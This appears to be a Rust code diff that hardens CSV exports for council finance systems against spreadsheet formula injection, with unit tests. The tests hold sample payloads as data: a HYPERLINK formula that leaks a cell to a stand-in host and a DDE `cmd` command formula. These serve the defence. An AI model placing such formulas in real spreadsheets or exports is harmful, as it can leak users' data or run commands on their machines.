@@ -1,9 +1,12 @@
 //! CSV downloads for finance systems: one writer (the `csv` crate quotes what needs it),
-//! sent with a file name so that browsers save it.
+//! sent with a file name so that browsers save it. Every cell passes through `neutralise`,
+//! so that text one council typed can never run as a formula in another council's
+//! spreadsheet (OWASP "CSV injection").
 
 use crate::error::AppError;
 use axum::http::header;
 use axum::response::{IntoResponse, Response};
+use std::borrow::Cow;
 
 /// Writes `header` and `rows` as CSV and sends them as `filename`.
 pub fn download(
@@ -11,12 +14,7 @@ pub fn download(
     header: &[&str],
     rows: impl IntoIterator<Item = Vec<String>>,
 ) -> Result<Response, AppError> {
-    let mut w = csv::Writer::from_writer(Vec::new());
-    w.write_record(header).map_err(|e| AppError::Internal(e.into()))?;
-    for row in rows {
-        w.write_record(&row).map_err(|e| AppError::Internal(e.into()))?;
-    }
-    let body = w.into_inner().map_err(|e| AppError::Internal(anyhow::anyhow!("{e}")))?;
+    let body = write(header, rows)?;
     Ok((
         [
             (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
@@ -30,18 +28,109 @@ pub fn download(
         .into_response())
 }
 
+/// The CSV bytes of `header` and `rows`, every cell neutralised.
+pub fn write(header: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> Result<Vec<u8>, AppError> {
+    let mut w = csv::Writer::from_writer(Vec::new());
+    let internal = |e: csv::Error| AppError::Internal(e.into());
+    let mut line = |cells: &mut dyn Iterator<Item = &str>| -> Result<(), AppError> {
+        for cell in cells {
+            w.write_field(neutralise(cell).as_bytes()).map_err(internal)?;
+        }
+        w.write_record(std::iter::empty::<&[u8]>()).map_err(internal)
+    };
+    line(&mut header.iter().copied())?;
+    for row in rows {
+        line(&mut row.iter().map(String::as_str))?;
+    }
+    w.into_inner().map_err(|e| AppError::Internal(anyhow::anyhow!("{e}")))
+}
+
+/// A cell as it may safely reach a spreadsheet: text that a spreadsheet would read as a
+/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading
+/// `'`, which spreadsheets show as text. Plain numbers such as `-1296.00` stay numbers.
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(cell) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// An optional sign, digits and at most one decimal point with digits after it.
+fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
+    let (whole, fraction) = match unsigned.split_once('.') {
+        Some((whole, fraction)) => (whole, Some(fraction)),
+        None => (unsigned, None),
+    };
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    digits(whole) && fraction.is_none_or(digits)
+}
+
 /// Pence as pounds with two decimals and no symbol, as finance systems import them.
 pub fn pounds(pence: i64) -> String {
     let sign = if pence < 0 { "-" } else { "" };
-    format!("{sign}{}.{:02}", pence.abs() / 100, pence.abs() % 100)
+    format!("{sign}{}.{:02}", pence.unsigned_abs() / 100, pence.unsigned_abs() % 100)
 }
 
 #[cfg(test)]
 mod tests {
+    use super::{neutralise, pounds, write};
+
     #[test]
     fn pounds_are_plain_decimals() {
-        assert_eq!(super::pounds(123_456), "1234.56");
-        assert_eq!(super::pounds(-5), "-0.05");
-        assert_eq!(super::pounds(0), "0.00");
+        assert_eq!(pounds(123_456), "1234.56");
+        assert_eq!(pounds(-5), "-0.05");
+        assert_eq!(pounds(0), "0.00");
+        assert_eq!(pounds(i64::MIN), "-92233720368547758.08");
+    }
+
+    #[test]
+    fn formulas_become_text() {
+        for risky in [
+            "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")",
+            "+SUM(A1:A9)",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1+1",
+            "\r=1+1",
+            "-",
+            "+44 20 7946 0000",
+            "-1296.00=A1",
+        ] {
+            assert_eq!(neutralise(risky), format!("'{risky}"), "{risky:?}");
+        }
+    }
+
+    #[test]
+    fn numbers_and_ordinary_text_are_untouched() {
+        for safe in [
+            "-1296.00",
+            "1296.00",
+            "+5",
+            "-0.05",
+            "7.5",
+            "Leeds City Council",
+            "BACS 4471",
+            "",
+            "a=b",
+        ] {
+            assert_eq!(neutralise(safe), safe, "{safe:?}");
+        }
+        for not_number in ["-1.", "-.5", "--1", "-1.2.3", "-1e5"] {
+            assert_eq!(neutralise(not_number), format!("'{not_number}"), "{not_number:?}");
+        }
+    }
+
+    #[test]
+    fn every_written_cell_is_neutralised() {
+        let bytes = write(
+            &["reference", "amount"],
+            [vec!["=cmd|' /C calc'!A0".to_string(), "-1296.00".to_string()]],
+        )
+        .unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        assert_eq!(text, "reference,amount\n'=cmd|' /C calc'!A0,-1296.00\n");
     }
 }
